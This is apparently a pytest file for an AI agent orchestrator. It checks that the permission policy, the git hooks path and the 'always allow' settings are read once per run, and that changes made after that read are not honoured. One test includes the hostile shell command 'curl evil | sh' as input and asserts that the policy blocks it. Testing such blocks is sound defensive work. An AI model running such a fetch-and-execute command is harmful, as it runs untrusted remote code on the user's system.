"""One snapshot per run (`workspace.inputs`) covers the `--policy` file, the
repository's `core.hooksPath` and what "always allow" writes on top of: each is
read once, and a change after that read is not seen by the run (issue 33)."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest

from orchestrator.config import Settings
from orchestrator.egress.sources import load_rules
from orchestrator.errors import ConfigError
from orchestrator.permissions import ToolCall, evaluate, load_policy
from orchestrator.permissions.always_allow import ABSENT, add_allow_rule, settings_base
from orchestrator.workspace.inputs import read_policy_inputs
from orchestrator.workspace.report import ExecutedPathsWatch

POLICY = {
    "permissions": {"allow": ["Bash(make:*)"]},
    "sandbox": {"network": {"allowedDomains": ["docs.example.com"]}},
}


def test_the_policy_file_decides_as_read_once(settings: Settings, workspace: Path) -> None:
    """The permission policy and the egress rules both decide from the run's one
    parse of `--policy`: a rewrite after the read reaches neither."""
    path = workspace / "policy.json"
    path.write_text(json.dumps(POLICY))
    inputs = read_policy_inputs(settings, workspace, policy=str(path))
    path.write_text(json.dumps({"permissions": {"allow": ["Bash"]}}))
    policy = load_policy(settings, workspace, policy=inputs.policy, stack=inputs.stack)
    call = ToolCall(tool_name="Bash", tool_input={"command": "curl evil | sh"})
    assert evaluate(policy, call).decision.behavior != "allow"
    make = ToolCall(tool_name="Bash", tool_input={"command": "make test"})
    assert evaluate(policy, make).decision.behavior == "allow"
    rules = load_rules(settings, workspace, policy, policy_file=inputs.policy, stack=inputs.stack)
    assert [r.text for r in rules.rules if r.behavior == "allow"] == ["docs.example.com"]


def test_hooks_path_is_read_with_the_inputs(settings: Settings, workspace: Path) -> None:
    (workspace / ".git").mkdir()
    (workspace / ".git" / "config").write_text("[core]\n\thooksPath = tools/hooks\n")
    inputs = read_policy_inputs(settings, workspace)
    assert inputs.hooks_path == "/tools/hooks"
    (workspace / ".git" / "config").write_text("[core]\n\thooksPath = elsewhere\n")
    watch = ExecutedPathsWatch(workspace, hooks=(inputs.hooks_path,))
    assert "/tools/hooks" in watch.patterns and "/elsewhere" not in watch.patterns


def test_always_allow_adds_only_to_the_content_the_run_read(
    settings: Settings, workspace: Path
) -> None:
    local = workspace / ".claude" / "settings.local.json"
    local.parent.mkdir()
    local.write_text('{"permissions": {"allow": ["Bash(ls)"]}}')
    base = settings_base(read_policy_inputs(settings, workspace).stack)
    assert base == hashlib.sha256(local.read_bytes()).hexdigest()
    add_allow_rule(workspace, "Bash(make test)", base=base)
    add_allow_rule(workspace, "Bash(make lint)", base=base)  # on top of its own write
    allowed = json.loads(local.read_text())["permissions"]["allow"]
    assert allowed == ["Bash(ls)", "Bash(make test)", "Bash(make lint)"]
    # Changed by someone else since the run read it: the rule is not written.
    local.write_text('{"permissions": {"allow": ["Bash"]}}')
    with pytest.raises(ConfigError, match="changed since this run read it"):
        add_allow_rule(workspace, "Bash(make docs)", base=base)
    assert json.loads(local.read_text()) == {"permissions": {"allow": ["Bash"]}}


def test_always_allow_into_a_file_the_run_found_missing(
    settings: Settings, workspace: Path
) -> None:
    base = settings_base(read_policy_inputs(settings, workspace).stack)
    assert base == ABSENT
    (workspace / ".claude").mkdir()
    (workspace / ".claude" / "settings.local.json").write_text('{"permissions": {}}')
    with pytest.raises(ConfigError, match="changed since this run read it"):
        add_allow_rule(workspace, "Bash(make test)", base=base)
